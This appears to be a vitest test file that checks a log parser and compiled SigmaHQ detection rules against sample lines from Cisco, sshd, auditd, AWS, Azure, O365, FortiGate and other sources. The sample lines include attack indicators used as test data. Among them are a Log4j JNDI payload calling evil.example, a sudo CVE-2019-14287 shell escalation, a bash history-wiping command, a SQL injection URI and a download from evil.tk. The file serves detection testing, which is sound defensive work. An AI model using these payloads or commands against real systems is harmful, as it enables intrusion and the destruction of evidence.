import { compileRules, linkRules, readSigma } from '@hinoban/sigma'
import { describe, expect, test } from 'vitest'
import { logReader, toSigma } from './index.ts'
import { hasCorpus, MEANS, untar } from './testing-corpus.ts'

const json = (value: object): string => JSON.stringify(value)
const trail = { eventVersion: '1', eventTime: '2026-11-22T00:00:00Z', awsRegion: 'x' }
const audit = 'msg=audit(1795305601.123:456):'

/** A line as its product writes it, and a rule of SigmaHQ for that product that it must set off. */
const PAIRS: readonly (readonly [rule: string, line: string])[] = [
  [
    'Cisco Disabling Logging',
    '<189>45: rt1: Nov 22 09:00:00.123 JST: %PARSER-5-CFGLOG_LOGGEDCMD: User:hanako  logged command:no logging host 10.0.0.9',
  ],
  ['Suspicious OpenSSH Daemon Error', 'Nov 22 09:00:00 srv01 sshd[9]: error: incorrect signature'],
  [
    'Sudo Privilege Escalation CVE-2019-14287 - Builtin',
    'Nov 22 09:00:00 srv01 sudo:   hanako : TTY=pts/0 ; PWD=/home/hanako ; USER=#-1 ; COMMAND=/bin/sh',
  ],
  ['Modifying Crontab', 'Nov 22 09:00:00 srv01 CRON[9]: (root) REPLACE (root)'],
  [
    'Linux Command History Tampering',
    'Nov 22 09:00:00 srv01 bash[9]: history -c ; rm /root/.bash_history',
  ],
  ['System Owner or User Discovery - Linux', `type=EXECVE ${audit} argc=1 a0="whoami"`],
  [
    'Remove Immutable File Attribute - Auditd',
    `type=EXECVE ${audit} argc=3 a0="chattr" a1="-i" a2="/x"`,
  ],
  [
    'Audio Capture',
    `type=SYSCALL ${audit} arch=c000003e syscall=319 success=yes exe="/usr/bin/ecasound"`,
  ],
  [
    'SQL Injection Strings In URI',
    '127.0.0.1 - - [10/Oct/2025:13:55:36 -0700] "GET /a?q=union%20select%20group_concat( HTTP/1.0" 200 2326 "-" "x"',
  ],
  [
    'Log4j RCE CVE-2021-44228 in Fields',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack is written so
    '127.0.0.1 - - [10/Oct/2025:13:55:36 -0700] "GET /x HTTP/1.1" 200 2326 "-" "${jndi:ldap://evil.example/a}"',
  ],
  [
    'Download From Suspicious TLD - Blacklist',
    '1795305601.123 456 10.0.0.5 TCP_MISS/200 1234 GET http://evil.tk/a/b.exe u HIER_NONE/- text/html',
  ],
  [
    'AWS CloudTrail Important Change',
    json({ ...trail, eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' }),
  ],
  [
    'AWS S3 Bucket Versioning Disable',
    json({
      ...trail,
      eventSource: 's3.amazonaws.com',
      eventName: 'PutBucketVersioning',
      requestParameters: { VersioningConfiguration: { Status: 'Suspended' } },
    }),
  ],
  [
    'Sign-in Failure Due to Conditional Access Requirements Not Met',
    json({
      createdDateTime: '2026-11-22T00:00:00Z',
      userPrincipalName: 'a@b',
      status: { errorCode: 53003, failureReason: 'Blocked by Conditional Access' },
    }),
  ],
  [
    'Added Owner To Application',
    json({
      activityDisplayName: 'Add owner to application',
      activityDateTime: '2026-11-22T00:00:00Z',
      initiatedBy: { user: { userPrincipalName: 'a@b' } },
    }),
  ],
  [
    'Anomalous Token',
    json({
      id: 'r1',
      riskEventType: 'anomalousToken',
      riskLevel: 'high',
      riskState: 'atRisk',
      activityDateTime: '2026-11-22T00:00:00Z',
      userPrincipalName: 'a@b',
      ipAddress: '198.51.100.7',
    }),
  ],
  [
    'Unfamiliar Sign-In Properties',
    json({
      time: '2026-11-22T00:00:00Z',
      category: 'UserRiskEvents',
      operationName: 'User Risk Detection',
      properties: { riskEventType: 'unfamiliarFeatures', riskLevel: 'medium', id: 'r2' },
    }),
  ],
  [
    'Azure Application Gateway Modified or Deleted',
    json({
      time: '2026-11-22T00:00:00Z',
      resourceId:
        '/SUBSCRIPTIONS/S/RESOURCEGROUPS/G/PROVIDERS/MICROSOFT.NETWORK/APPLICATIONGATEWAYS/X',
      operationName: 'MICROSOFT.NETWORK/APPLICATIONGATEWAYS/DELETE',
      category: 'Administrative',
      resultType: 'Success',
      callerIpAddress: '198.51.100.7',
    }),
  ],
  [
    'Mail Forwarding/Redirecting Activity In O365',
    json({
      CreationTime: '2026-11-22T00:00:00',
      Operation: 'New-InboxRule',
      RecordType: 1,
      Parameters: [{ Name: 'ForwardTo', Value: 'x@y' }],
    }),
  ],
  [
    'Microsoft 365 - Potential Ransomware Activity',
    json({
      CreationTime: '2026-11-22T00:00:00',
      Operation: 'AlertTriggered',
      RecordType: 40,
      Workload: 'SecurityComplianceCenter',
      Name: 'Potential ransomware activity',
      ResultStatus: 'Succeeded',
    }),
  ],
  [
    'FortiGate - New Administrator Account Created',
    '<189>date=2026-11-22 time=09:00:01 devid="FG1" logid="0100044547" type="event" subtype="system" action="Add" cfgpath="system.admin" cfgobj="x"',
  ],
  [
    'DNS Events Related To Mining Pools',
    json({
      ts: 1795305601.5,
      uid: 'C',
      _path: 'dns',
      'id.resp_p': 53,
      query: 'pool.minexmr.com',
      qtype_name: 'A',
    }),
  ],
  [
    'Telegram Bot API Request',
    json({
      timestamp: '2026-11-22T09:00:00+0900',
      event_type: 'dns',
      src_ip: '10.0.0.5',
      dns: { type: 'query', rrname: 'api.telegram.org', rrtype: 'A' },
    }),
  ],
  [
    'Curl Usage on Linux',
    json({
      name: 'process_events',
      hostIdentifier: 'h',
      unixTime: 1795305601,
      platform: 'linux',
      counter: 3,
      action: 'added',
      columns: { path: '/usr/bin/curl', cmdline: 'curl http://203.0.113.5/a' },
    }),
  ],
  [
    'Cleartext Protocol Usage',
    '<166>Nov 22 2026 09:00:00 fw01 : %ASA-6-106100: access-list IN permitted tcp inside/10.0.0.5(51000) -> outside/198.51.100.7(23) hit-cnt 1',
  ],
  [
    'Equation Group C2 Communication',
    '<13>LAN2 Passed at IN(300) filter: TCP 69.42.98.86:137 > 192.168.100.2:445',
  ],
]

describe.skipIf(!hasCorpus)('rules of SigmaHQ for sources that are not Windows', () => {
  test('each product’s own line sets off its rule, and no rule for another product', () => {
    const rules = linkRules(
      readSigma(
        [...untar('sigma-rules/sigma-rules.tar.gz', /(^|\/)rules[^/]*\/.*\.yml$/)]
          .filter(({ file }) => !file.includes('/windows/'))
          .map(({ file, bytes }) => ({ file, text: bytes.toString('utf8') })),
      ),
    ).rules
    const program = compileRules(rules)
    const wrong: string[] = []
    for (const [title, line] of PAIRS) {
      const reader = logReader(MEANS)
      const events = [...reader.read(line, MEANS.receivedAt), ...reader.end()]
      const hits = events.flatMap((event) => program.match(toSigma(event, line)))
      if (!hits.some(({ about }) => about.title === title))
        wrong.push(`${title}: ${hits.map(({ about }) => about.title)}`)
      for (const { logsource, about } of hits)
        if (logsource.product !== undefined && logsource.product !== events[0]?.product)
          wrong.push(`${about.title} on ${events[0]?.product}`)
    }
    expect(wrong).toEqual([])
  })
})
